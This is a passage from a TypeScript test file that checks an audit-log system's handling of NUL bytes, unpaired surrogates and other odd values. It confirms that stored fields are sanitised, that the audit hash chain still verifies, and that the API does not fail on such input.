        targetId: 'nul \u0000 inside',
        details: {
          at: new Date('2026-01-02T03:04:05.000Z'),
          lone: 'end \udc00',
          nul: 'a\u0000b',
          list: [undefined, new Date(0)],
          skipped: undefined,
          nested: { z: 1, a: { y: [1, 2], b: null } },
          big: 1e21,
        },
      });
    });
    const { rows, chain } = await t.tenancy.withTenantTx({ orgId, userId: null }, async (tx) => ({
      rows: await findAuditEvents(tx, { orgId, limit: 10, order: 'asc' }),
      chain: await verifyAuditChain(tx, orgId),
    }));
    expect(chain).toEqual({ ok: true, checked: 1, firstBrokenSeq: null, reason: null });
    expect(rows[0]).toMatchObject({
      actor_label: 'half a pair \ufffd here',
      target_id: 'nul \ufffd inside',
      details: { at: '2026-01-02T03:04:05.000Z', lone: 'end \ufffd', nul: 'a\ufffdb', list: [null, '1970-01-01T00:00:00.000Z'] },
    });
    expect(rows[0]!.user_agent).toHaveLength(500);

    // Through the API: a name with an unpaired surrogate must not break the request or the chain.
    const owner = await newOrg('odd-name');
    const response = await t.request({ method: 'PATCH', url: '/api/org', as: owner, payload: { name: 'Acme \ud800 Ltd' } });
    expect(response.statusCode, response.body).toBeLessThan(500);
    expect(await verifyViaApi(owner)).toMatchObject({ ok: true });
  });
});
